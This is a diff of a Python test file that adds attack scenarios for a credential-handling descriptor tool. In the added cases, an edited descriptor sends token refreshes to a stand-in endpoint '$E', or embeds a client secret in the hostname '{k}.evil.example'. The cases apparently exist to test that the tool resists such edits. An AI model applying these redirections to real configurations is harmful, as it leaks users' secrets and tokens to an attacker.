@@ -233,6 +233,24 @@ def widens_what_was_agreed():
         yield Attack("descriptor", f"another {name}, edited in place", control, {
             "edit": descriptor, "commands": (("refresh", "notes"), ("header", "notes", "--url", "http://$E/api"))})
 
+    git = 'git: { hosts: ["$E"] }\n'
+    yield Attack("descriptor", "a host of git becomes an endpoint", Scene(code(more=git), commands=(("refresh", "notes"),)), {
+        "edit": code(more='  refresh: "http://$E/token"\n' + git)})
+    tenant = 'variables: { tenant: { %s } }\n'
+    fixed = code(more=tenant % "default: common").replace("/token", "/token?t={tenant}")
+    yield Attack("descriptor", "a variable that is optional hides an endpoint", Scene(
+        fixed, login=(*LOGIN, "--set", "tenant=contoso"), commands=(("refresh", "notes"),)), {
+        "edit": fixed.replace("default: common", "optional: true").replace('token: "http://$H', 'token: "http://$E')})
+    secret = code(more='variables: { k: { %s } }\nextra_headers: { X-Key: "{k}" }\nhosts: [%s"$H"]\n')
+    yield Attack("descriptor", "a secret is none any more", Scene(
+        secret % ("secret: true", ""), options=(*SECRET_FILE, "--set", "k=@$W/client-secret"),
+        commands=(("refresh", "notes"),)), {"edit": secret % ("help: none", '"{k}.evil.example", ')})
+    bound = '%sresponse: { keep: { base: { path: base, pattern: "http://$H" }%s } }\nhosts: ["{base}"]\n'
+    yield Attack("descriptor", "a field in other letters", Scene(
+        code(more=bound % ("", "")), answers=answer(base="http://$H", other="http://$E"),
+        commands=(("refresh", "notes"),)), {
+        "edit": code(more=bound % ('  refresh: "{Base}/token"\n', ", Base: { path: other }"))})
+
     def elsewhere(test):
         """The vault comes back where a descriptor of the same name says something else."""
         key = os.path.join(test.homes[-1], "vault/vault.key")
